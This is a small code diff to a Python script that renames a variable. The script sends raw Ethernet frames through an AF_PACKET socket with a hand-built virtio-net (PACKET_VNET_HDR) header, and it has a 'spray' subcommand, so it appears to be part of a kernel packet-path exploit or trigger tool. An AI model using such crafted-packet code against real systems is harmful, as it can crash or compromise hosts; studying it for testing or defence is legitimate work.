@@ -357,10 +357,10 @@ def main(a):
         raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
         raw.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
         raw.bind((iface, 0))
-        frame = dst_mac + raw.getsockname()[4] + struct.pack('!H', 0x0800) + ip
+        eth_frame = dst_mac + raw.getsockname()[4] + struct.pack('!H', 0x0800) + ip
         vnet = struct.pack('<BBHHHH', 0, 0, 34, 0, 0, 0)  # no GSO; hdr_len 34: Ethernet + IPv4 linear
         for _ in range(count):
-            raw.send(vnet + frame)
+            raw.send(vnet + eth_frame)
             time.sleep(0.02)
     elif a[0] == 'spray':
         dst, first, count = a[1], int(a[2]), int(a[3])
